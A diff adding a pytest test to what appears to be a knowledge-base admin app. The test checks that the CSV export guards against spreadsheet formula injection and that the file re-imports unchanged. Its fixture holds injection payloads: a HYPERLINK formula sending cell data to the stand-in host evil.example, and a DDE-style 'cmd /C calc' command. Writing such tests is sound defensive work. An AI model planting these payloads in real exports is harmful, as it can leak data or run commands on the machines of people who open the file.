@@ -238,3 +238,40 @@ def test_a_question_can_be_added_to_its_nearest_entry(make_ivr: Any) -> None:
     assert supervisor.post("/admin/kb/entry/en/card-lost", form).status_code == 303
     assert "my plastic card fell in the river" in store.get("card-lost", "en").alternates
     assert store.unanswered("new") == [] and len(store.unanswered("added")) == 1
+
+
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_the_export_neutralises_formulas_and_imports_back_unchanged(make_ivr: Any) -> None:
+    """A cell a spreadsheet would run (=, +, -, @, tab, CR first) is exported with a leading
+    single quote; importing the file back drops it, so nothing changes."""
+    ivr = make_ivr()
+    add_users(ivr)
+    supervisor = signed_in(ivr, "supervisor")
+    entry = {
+        "language": "en",
+        "key": "formula-test",
+        "category": "general",
+        "question": '=HYPERLINK("http://evil.example/?"&A1,"card")',
+        "alternates": "+cmd /C calc!A0\n@SUM(1+1)",
+        "answer": "-2+3 is what the spreadsheet would show.",
+        "tags": "@tag, plain",
+        "active": "1",
+    }
+    assert supervisor.post("/admin/kb/new", entry).status_code == 303
+    for query in ("?language=en", ""):
+        exported = supervisor.get("/admin/kb/export.csv" + query)
+        rows = list(csv.reader(io.StringIO(exported.text.lstrip("\ufeff"))))
+        cells = [cell for row in rows for cell in row]
+        assert not [c for c in cells if c.startswith(FORMULA_START)], query
+        ours = next(dict(zip(rows[0], row, strict=True)) for row in rows if "formula-test" in row)
+        assert ours["question"] == "'" + entry["question"]
+        assert ours["alternates"] == "'+cmd /C calc!A0|@SUM(1+1)"
+        assert ours["answer"] == "'-2+3 is what the spreadsheet would show."
+        assert ours["tags"] == "'@tag;plain"
+    again = supervisor.post("/admin/kb/import", files={"file": ("en.csv", exported.content)})
+    assert again.status_code == 200 and "0 entries new or changed" in again.text
+    saved = ivr.services.kb.store.get("formula-test", "en")
+    assert saved.question == entry["question"] and saved.tags == ("@tag", "plain")
+    assert saved.version == 1
